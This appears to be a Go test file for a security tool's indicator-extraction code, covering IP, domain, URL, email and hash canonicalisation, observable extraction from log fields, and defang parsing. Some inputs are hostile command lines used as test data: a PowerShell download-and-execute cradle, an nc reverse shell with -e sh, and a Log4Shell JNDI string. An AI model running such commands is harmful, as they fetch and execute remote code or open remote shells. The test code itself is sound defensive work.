package event_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"github.com/meneki/meneki/internal/event"
)

func TestCanonical(t *testing.T) {
	h := strings.Repeat("aB", 16)
	for _, c := range []struct {
		t        event.ObservableType
		in, want string // "" refused
	}{
		{event.IPv4, "192.0.2.1", "192.0.2.1"},
		{event.IPv4, " 192.0.2.1 ", "192.0.2.1"},
		{event.IPv4, "::ffff:192.0.2.1", "192.0.2.1"},
		{event.IPv4, "192.0.2.77/24", "192.0.2.0/24"},
		{event.IPv4, "192.0.2.77/32", "192.0.2.77"},
		{event.IPv4, "192.0.2.256", ""},
		{event.IPv4, "192.0.2.01", ""},
		{event.IPv4, "2001:db8::1", ""},
		{event.IPv6, "2001:DB8:0:0::1", "2001:db8::1"},
		{event.IPv6, "fe80::1%eth0", "fe80::1"},
		{event.IPv6, "[2001:db8::1]", "2001:db8::1"},
		{event.IPv6, "2001:db8::1/32", "2001:db8::/32"},
		{event.Domain, "Example.COM.", "example.com"},
		{event.Domain, "日本語.jp", "xn--wgv71a119e.jp"},
		{event.Domain, "XN--WGV71A119E.jp", "xn--wgv71a119e.jp"},
		{event.Domain, "straße.de", "xn--strae-oqa.de"},
		{event.Domain, "_ldap._tcp.example.com", "_ldap._tcp.example.com"},
		{event.Domain, "localhost", ""},
		{event.Domain, "1.2.3.4", ""},
		{event.Domain, "a..b", ""},
		{event.Domain, "-a.b", ""},
		{event.Domain, "a b.c", ""},
		{event.Domain, strings.Repeat("a", 64) + ".com", ""},
		{event.URL, "HTTP://User:pw@Example.COM:80/A?b#c", "http://example.com/A?b"},
		{event.URL, "https://例え.jp:8443", "https://xn--r8jz45g.jp:8443/"},
		{event.URL, "http://[2001:DB8::1]/x", "http://[2001:db8::1]/x"},
		{event.URL, "http://192.0.2.1:8080/x", "http://192.0.2.1:8080/x"},
		{event.URL, "http://+:8080/", ""},
		{event.URL, "example.com/x", ""},
		{event.URL, "http://a b.com/", ""},
		{event.Email, "Foo.Bar+x@Example.COM", "foo.bar+x@example.com"},
		{event.Email, "a@b", ""},
		{event.Email, "a b@c.de", ""},
		{event.MD5, h, strings.ToLower(h)},
		{event.MD5, h + "0", ""},
		{event.SHA1, h, ""},
		{event.SHA1, strings.Repeat("0", 40), ""},
		{event.SHA256, strings.Repeat("Ef", 32), strings.Repeat("ef", 32)},
		{"x", "y", ""},
		{event.URL, "http://example.com/" + strings.Repeat("a", 5000), ""},
	} {
		got, ok := event.Canonical(c.t, c.in)
		if got != c.want || ok != (c.want != "") {
			t.Errorf("%s %q: %q %v, want %q", c.t, c.in, got, ok, c.want)
		}
		if again, ok2 := event.Canonical(c.t, got); ok && (again != got || !ok2) {
			t.Errorf("%s %q is not its own canonical form: %q", c.t, got, again)
		}
	}
}

func show(obs []event.Observable) string {
	var out []string
	for _, o := range obs {
		out = append(out, string(o.Type)+"="+o.Value)
	}
	return strings.Join(out, " ")
}

func TestObservablesOfText(t *testing.T) {
	for in, want := range map[string]string{
		`powershell IEX (New-Object Net.WebClient).DownloadString('http://Bad.example:80/a.ps1')`: "domain-name=bad.example url=http://bad.example/a.ps1",
		`see http://a.example/x_(y), or (https://b.example/z).`:                                   "domain-name=a.example domain-name=b.example url=http://a.example/x_(y) url=https://b.example/z",
		`ping -n 1 192.0.2.1 & net use \\192.0.2.2\c$`:                                            "ipv4-addr=192.0.2.1 ipv4-addr=192.0.2.2",
		`nc 192.0.2.3:4444 -e sh; curl [2001:db8::5]:80 fe80::1`:                                  "ipv4-addr=192.0.2.3 ipv6-addr=2001:db8::5 ipv6-addr=fe80::1",
		`tool v1.2.3.4 lib-1.2.3.4.zip 1.2.3.4.5 version 1.2.3.4 Version=5.6.7.8 999.1.1.1`:       "",
		`[Convert]::FromBase64String [System.Net]::Face 10:20:30 00:11:22:33:44:55 a::b`:          "",
		`rundll32 shell32.dll,Control_RunDLL evil.example update.exe`:                             "",
		`file:///C:/x javascript://y`:                                                             "",
		`connect to 192.0.2.9.`:                                                                   "ipv4-addr=192.0.2.9",
		`${jndi:ldap://198.51.100.1:1389/a}`:                                                      "ipv4-addr=198.51.100.1 url=ldap://198.51.100.1:1389/a",
	} {
		ev := &event.Event{Product: "windows", Fields: map[string]any{"CommandLine": in}}
		if got := show(event.Observables(ev)); got != want {
			t.Errorf("%s\n%s\nwant %s", in, got, want)
		}
	}
}

func TestObservablesOfFields(t *testing.T) {
	md5, sha1, sha256 := strings.Repeat("1A", 16), strings.Repeat("2B", 20), strings.Repeat("3C", 32)
	for _, c := range []struct {
		product string
		fields  map[string]any
		want    string
	}{
		{"windows", map[string]any{"Hashes": "SHA1=" + sha1 + ",MD5=" + md5 + ",SHA256=" + sha256 + ",IMPHASH=" + md5[:30] + "00", "TargetFilename": `C:\evil.com`, "Image": "1.2.3.4"},
			"MD5=" + strings.ToLower(md5) + " SHA-1=" + strings.ToLower(sha1) + " SHA-256=" + strings.ToLower(sha256)},
		{"windows", map[string]any{"QueryName": "Bad.Example", "QueryResults": "type:  5 cdn.example;::ffff:192.0.2.1;2001:db8::1;"}, "domain-name=bad.example domain-name=cdn.example ipv4-addr=192.0.2.1 ipv6-addr=2001:db8::1"},
		{"windows", map[string]any{"SourceIp": "0.0.0.0", "DestinationIp": "192.0.2.4", "DestinationHostname": "-", "IpAddress": "::1", "Computer": "pc.example.jp"}, "ipv4-addr=192.0.2.4 ipv6-addr=::1"},
		{"zeek", map[string]any{"from": `"A" <a@b.example>`, "to": []any{"<c@d.example>,e@f.example"}}, "email-addr=a@b.example email-addr=c@d.example email-addr=e@f.example"},
		{"suricata", map[string]any{"fileinfo": map[string]any{"sha256": sha256}, "tls": map[string]any{"sni": "x.example"}}, "SHA-256=" + strings.ToLower(sha256) + " domain-name=x.example"},
		{"linux", map[string]any{"a3": "http://x.example/"}, "domain-name=x.example url=http://x.example/"},
		{"", map[string]any{"server.address": "x.example:443", "network.peer.address": "192.0.2.1"}, "domain-name=x.example ipv4-addr=192.0.2.1"},
		{"windows", map[string]any{"DestinationHostname": "1.2.0.192.in-addr.arpa"}, ""},
	} {
		if got := show(event.Observables(&event.Event{Product: c.product, Fields: c.fields})); got != c.want {
			t.Errorf("%v\n%s\nwant %s", c.fields, got, c.want)
		}
	}
	var many []string
	for i := range 2000 {
		many = append(many, fmt.Sprintf("192.0.%d.%d", i/256, i%256))
	}
	ev := &event.Event{Fields: map[string]any{"CommandLine": strings.Join(many, " "), "md5": md5}}
	got := event.Observables(ev)
	if len(got) != event.MaxObservables || got[0].Type != event.MD5 {
		t.Errorf("%d observables, first %v", len(got), got[0])
	}
	if d := cmp.Diff(got, event.Observables(ev)); d != "" {
		t.Error(d)
	}
}

func TestParseObservables(t *testing.T) {
	h := strings.Repeat("ab", 32)
	for in, want := range map[string]string{
		"hxxps://evil[.]example/a\n192[.]0[.]2[.]1, evil(dot)com; foo[at]bar[.]co[.]jp":      "url=https://evil.example/a ipv4-addr=192.0.2.1 domain-name=evil.com email-addr=foo@bar.co.jp",
		"SHA256: " + strings.ToUpper(h) + " md5=" + h[:32] + " imphash=" + h[:32]:            "SHA-256=" + h + " MD5=" + h[:32],
		"| 192.0.2.1:8080 | 2001[:]db8[:][:]1 | 198.51.100.0/24 |":                           "ipv4-addr=192.0.2.1 ipv6-addr=2001:db8::1 ipv4-addr=198.51.100.0/24",
		"Update.exe, setup.dll and report.pdf came from www.Evil.co.uk/path (see evil.zip).": "domain-name=www.evil.co.uk domain-name=evil.zip",
		"攻撃元は「evil.example.jp」、192.0.2.5。":                                                   "domain-name=evil.example.jp ipv4-addr=192.0.2.5",
		"fxp://x.example.com/ meow://x[.]com":                                                "url=ftp://x.example.com/ url=meow://x.com/",
		"mailto:a@b.com abcdefghij234567.onion com co.jp":                                    "email-addr=a@b.com domain-name=abcdefghij234567.onion",
		"": "",
	} {
		if got := show(event.ParseObservables(in)); got != want {
			t.Errorf("%s\n%s\nwant %s", in, got, want)
		}
	}
}

// TestDefangRoundTrip defangs any observable and reads it back.
func TestDefangRoundTrip(t *testing.T) {
	label := rapid.StringMatching(`[a-z][a-z0-9]{0,8}`)
	domain := rapid.Custom(func(t *rapid.T) string { return label.Draw(t, "a") + "." + label.Draw(t, "b") + ".com" })
	gen := rapid.Custom(func(t *rapid.T) event.Observable {
		v4 := fmt.Sprintf("%d.%d.%d.%d", rapid.IntRange(1, 255).Draw(t, "a"), rapid.IntRange(0, 255).Draw(t, "b"), rapid.IntRange(0, 255).Draw(t, "c"), rapid.IntRange(0, 255).Draw(t, "d"))
		v6 := fmt.Sprintf("2001:db8:%x::%x", rapid.IntRange(1, 65535).Draw(t, "e"), rapid.IntRange(1, 65535).Draw(t, "f"))
		switch rapid.IntRange(0, 7).Draw(t, "type") {
		case 0:
			return event.Observable{Type: event.IPv4, Value: v4}
		case 1:
			return event.Observable{Type: event.IPv6, Value: v6}
		case 2:
			return event.Observable{Type: event.Domain, Value: domain.Draw(t, "name")}
		case 3:
			return event.Observable{Type: event.URL, Value: rapid.SampledFrom([]string{"http", "https", "ftp"}).Draw(t, "scheme") + "://" + domain.Draw(t, "name") + rapid.StringMatching(`/[a-z0-9/_-]{0,12}(\?[a-z]=[a-z0-9]{1,5})?`).Draw(t, "path")}
		case 4:
			return event.Observable{Type: event.URL, Value: "http://[" + v6 + "]:8080/x"}
		case 5:
			return event.Observable{Type: event.Email, Value: label.Draw(t, "local") + "@" + domain.Draw(t, "name")}
		case 6:
			return event.Observable{Type: event.SHA1, Value: rapid.StringMatching(`[1-9a-f][0-9a-f]{39}`).Draw(t, "hash")}
		}
		return event.Observable{Type: event.URL, Value: "https://" + v4 + "/x"}
	})
	rapid.Check(t, func(t *rapid.T) {
		o := gen.Draw(t, "observable")
		d := event.Defang(o)
		if o.Type != event.SHA1 && strings.Contains(d, "http") {
			t.Errorf("%s is still a link", d)
		}
		got := event.ParseObservables("> " + d + "\n")
		if len(got) != 1 || got[0] != o {
			t.Fatalf("%v defanged is %s, read back %v", o, d, got)
		}
	})
}

func FuzzParseObservables(f *testing.F) {
	for _, s := range []string{"hxxp://a[.]b/c", "1[.]2[.]3[.]4/8", "a[@]b.com", "[::1]:80", "http://[::ffff:1.2.3.4%25x]/", "\xff日本語.jp", "a=b:c=d", "ＥＸＡＭＰＬＥ．com"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		check := func(o event.Observable) {
			if c, ok := event.Canonical(o.Type, o.Value); !ok || c != o.Value {
				t.Errorf("%v is not canonical: %q %v", o, c, ok)
			}
		}
		for _, o := range event.ParseObservables(s) {
			check(o)
			event.Defang(o)
		}
		for _, o := range event.Observables(&event.Event{Fields: map[string]any{"CommandLine": s, "url": s, "query": s, "src_ip": s, "Hashes": s, "QueryResults": s, "user.email": s}}) {
			check(o)
		}
	})
}
